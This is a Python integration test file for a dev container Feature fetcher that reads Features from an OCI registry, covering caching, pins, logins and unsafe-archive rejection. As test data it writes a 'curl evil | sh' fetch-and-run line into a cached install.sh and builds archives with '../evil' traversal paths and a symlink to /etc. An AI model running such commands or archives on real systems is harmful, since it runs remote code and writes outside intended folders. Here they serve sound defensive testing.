"""Features against the CNCF distribution registry, with and without a login."""

from __future__ import annotations

import asyncio
import base64
import json
from pathlib import Path

import pytest

from moorage.errors import ConfigurationError, ImageError
from moorage.facts.features.errors import FeatureUnusable
from moorage.oci.client import Client
from moorage.oci.credentials import Credential
from moorage.oci.failures import ImageNotFound, LoginRequired
from moorage.planner.questions import ReadFeature
from scripts.engines.provision import AuthRegistry
from tests.integration.facts.conftest import MakeFinder
from tests.integration.facts.published import archive, metadata, namespace, publish
from tests.integration.oci.bench import Known
from tests.unit.facts.archives import INSTALL, link, member, tar, zipped


async def test_a_feature_is_known_from_its_manifest_alone(
    registry: str, client: Client, finder: MakeFinder, tmp_path: Path
) -> None:
    place = namespace(registry)
    document = metadata("hello", options={"name": {"type": "string", "default": "x"}}, unknown=1)
    digest = await publish(client, place, document, tags=("1", "latest"))
    found = await finder().find(ReadFeature(reference=f"{place}/hello:1"))
    assert (found.kind, found.base, found.tag, found.digest) == ("oci", f"{place}/hello", "1", digest)
    assert found.resolved == f"{place}/hello@{digest}"
    assert found.feature.options["name"].default == "x"
    assert found.raw == document
    assert found.manifest
    assert found.manifest["annotations"]
    assert not (tmp_path / "cache" / "files").exists()


async def test_its_files_are_taken_out_once(
    registry: str, client: Client, finder: MakeFinder, tmp_path: Path
) -> None:
    place = namespace(registry)
    await publish(client, place, metadata("hello"), layer=zipped(archive(metadata("hello"))))
    one = finder()
    found = await one.find(ReadFeature(reference=f"{place}/hello"))
    folders = await asyncio.gather(*(one.content(found) for _ in range(4)))
    assert len(set(folders)) == 1
    assert (folders[0] / "install.sh").read_bytes() == INSTALL
    assert [path.name for path in (tmp_path / "cache" / "files").glob(".*")] == []
    assert await finder().content(found) == folders[0]


async def test_older_artifacts_tell_it_in_their_files(
    registry: str, client: Client, finder: MakeFinder
) -> None:
    place = namespace(registry)
    await publish(client, place, metadata("old"), annotation=None)
    found = await finder().find(ReadFeature(reference=f"{place}/old"))
    assert found.feature.id == "old"


@pytest.mark.parametrize("annotation", ["not JSON", "[]", '{"id": 3}', '{"id": "../evil"}', "{" * 5000])
async def test_a_wrong_annotation_gives_way_to_the_files(
    registry: str, client: Client, finder: MakeFinder, annotation: str
) -> None:
    place = namespace(registry)
    await publish(client, place, metadata("hello"), annotation=annotation)
    found = await finder().find(ReadFeature(reference=f"{place}/hello"))
    assert found.raw == metadata("hello")


async def test_a_pin_is_found_in_the_cache_without_a_registry(
    registry: str, client: Client, finder: MakeFinder
) -> None:
    place = namespace(registry)
    digest = await publish(client, place, metadata("hello"))
    before = await finder().find(ReadFeature(reference=f"{place}/hello", digest=digest))
    await finder().content(before)
    nowhere = f"127.0.0.1:9/{place.partition('/')[2]}/hello"
    found = await finder().find(ReadFeature(reference=nowhere, digest=digest))
    assert found.raw == before.raw
    assert (await finder().content(found)).is_dir()
    by_digest = await finder().find(ReadFeature(reference=f"{nowhere}@{digest}"))
    assert by_digest.digest == digest


async def test_a_damaged_cache_is_filled_again(
    registry: str, client: Client, finder: MakeFinder, tmp_path: Path
) -> None:
    place = namespace(registry)
    digest = await publish(client, place, metadata("hello"))
    found = await finder().find(ReadFeature(reference=f"{place}/hello"))
    folder = await finder().content(found)
    (folder / "install.sh").write_text("curl evil | sh\n")
    manifest = tmp_path / "cache" / "manifests" / digest.replace(":", "-")
    manifest.write_bytes(b"{}")
    again = await finder().find(ReadFeature(reference=f"{place}/hello", digest=digest))
    assert (await finder().content(again) / "install.sh").read_bytes() == INSTALL


async def test_a_moved_tag_is_seen_and_a_pin_is_not_moved(
    registry: str, client: Client, finder: MakeFinder
) -> None:
    place = namespace(registry)
    old = await publish(client, place, metadata("hello"))
    new = await publish(client, place, metadata("hello", description="newer"))
    assert (await finder().find(ReadFeature(reference=f"{place}/hello"))).digest == new
    assert (await finder().find(ReadFeature(reference=f"{place}/hello", digest=old))).digest == old


@pytest.mark.parametrize(
    ("layer", "said"),
    [
        (tar(member("../evil", b"x")), "leads out"),
        (tar(member("devcontainer-feature.json", b"{}"), link("l", "/etc")), "leads out"),
        (tar(member("a\nb", b"x")), "cannot be shown"),
        (tar(member("\x1b[31mred", b"x")), "cannot be shown"),
        (b"<html>no archive</html>" * 50, "no tar archive"),
    ],
)
async def test_an_archive_that_is_not_taken_out_leaves_nothing(
    registry: str, client: Client, finder: MakeFinder, tmp_path: Path, layer: bytes, said: str
) -> None:
    place = namespace(registry)
    await publish(client, place, metadata("hello"), layer=layer)
    one = finder()
    found = await one.find(ReadFeature(reference=f"{place}/hello"))
    with pytest.raises(FeatureUnusable, match=said) as caught:
        await one.content(found)
    assert f"{place}/hello" in caught.value.message
    assert "\n" not in caught.value.message
    assert "\x1b" not in caught.value.message
    assert list((tmp_path / "cache" / "files").iterdir()) == []


async def test_a_feature_without_a_script_is_said(registry: str, client: Client, finder: MakeFinder) -> None:
    place = namespace(registry)
    document = json.dumps(metadata("hello")).encode()
    await publish(client, place, metadata("hello"), layer=tar(member("devcontainer-feature.json", document)))
    found = await finder().find(ReadFeature(reference=f"{place}/hello"))
    with pytest.raises(FeatureUnusable, match=r"has no install\.sh"):
        await finder().content(found)


async def test_an_image_is_no_feature(registry: str, client: Client, finder: MakeFinder) -> None:
    place = namespace(registry)
    await publish(
        client,
        place,
        metadata("image"),
        media_type="application/vnd.oci.image.layer.v1.tar+gzip",
    )
    with pytest.raises(FeatureUnusable, match="is not a Feature"):
        await finder().find(ReadFeature(reference=f"{place}/image"))


async def test_what_is_not_there_names_feature_and_registry(registry: str, finder: MakeFinder) -> None:
    place = namespace(registry)
    with pytest.raises(ImageNotFound) as caught:
        await finder().find(ReadFeature(reference=f"{place}/nothing:1"))
    assert caught.value.message.startswith(f"Could not resolve Feature '{place}/nothing:1'")
    assert registry in caught.value.message
    assert caught.value.hint


async def test_broken_metadata_names_its_place(registry: str, client: Client, finder: MakeFinder) -> None:
    place = namespace(registry)
    layer = archive(b'{"id": "broken", "options": 3}')
    await publish(client, place, {"id": "broken"}, layer=layer, annotation=None)
    with pytest.raises(ConfigurationError) as caught:
        await finder().find(ReadFeature(reference=f"{place}/broken"))
    assert f"{place}/broken" in caught.value.message


async def test_a_login_opens_a_private_registry(
    auth_registry: AuthRegistry, finder: MakeFinder, tmp_path: Path
) -> None:
    place = namespace(auth_registry.address)
    login = Credential(username=auth_registry.user, password=auth_registry.password)
    async with Client(credentials=Known({auth_registry.address: login})) as client:
        await publish(client, place, metadata("private"))
    question = ReadFeature(reference=f"{place}/private")
    with pytest.raises(LoginRequired) as caught:
        await finder().find(question)
    assert f"docker login {auth_registry.address}" in caught.value.hint
    by_variable = f"{auth_registry.address}|{auth_registry.user}|{auth_registry.password}"
    one = finder({"DEVCONTAINERS_OCI_AUTH": f"other.example.com|a|b,{by_variable}"})
    found = await one.find(question)
    assert (await one.content(found) / "install.sh").is_file()
    auth = base64.b64encode(f"{auth_registry.user}:{auth_registry.password}".encode()).decode()
    (tmp_path / "config.json").write_text(json.dumps({"auths": {auth_registry.address: {"auth": auth}}}))
    other = finder({"DOCKER_CONFIG": str(tmp_path)}, cache=tmp_path / "other")
    assert (await other.find(question)).digest == found.digest


async def test_a_wrong_login_is_refused_without_being_shown(
    auth_registry: AuthRegistry, finder: MakeFinder
) -> None:
    wrong = finder({"DEVCONTAINERS_OCI_AUTH": f"{auth_registry.address}|ann|wrong-password"})
    with pytest.raises(ImageError) as caught:
        await wrong.find(ReadFeature(reference=f"{namespace(auth_registry.address)}/private"))
    assert "wrong-password" not in f"{caught.value} {caught.value.evidence} {caught.value.hint}"


async def test_equal_questions_are_one(registry: str, client: Client, finder: MakeFinder) -> None:
    place = namespace(registry)
    await publish(client, place, metadata("hello"))
    one = finder()
    asked = [f"{place}/hello", f"{place}/hello:latest", f"{place}/HELLO"]
    found = await asyncio.gather(*(one.find(ReadFeature(reference=text)) for text in asked))
    assert [each.reference for each in found] == asked
    assert len({each.digest for each in found}) == 1
    assert len(one._asked) == 1
